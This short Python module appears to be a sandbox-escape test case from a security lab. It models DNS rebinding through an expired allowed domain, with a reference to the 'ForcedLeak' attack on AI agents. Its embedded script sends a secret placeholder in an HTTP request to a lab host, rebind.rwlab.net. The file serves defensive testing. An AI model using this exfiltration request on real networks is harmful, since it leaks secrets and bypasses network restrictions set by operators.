"""reaches the company's network by a granted name that leads there"""

from evidence import secret_left as succeeded

SHAPE = "DNS rebinding; ForcedLeak: an allowed domain had expired"
PROMISE = "P25"
LAB = True
WALLS = "network-addresses"
OPTIONS = {"hosts": ["rebind.rwlab.net:80"]}
PYTHON = """
import socket
with socket.create_connection(("rebind.rwlab.net", 80), 30) as line:
    line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: rebind.rwlab.net\\r\\n\\r\\n")
    line.recv(999)
"""
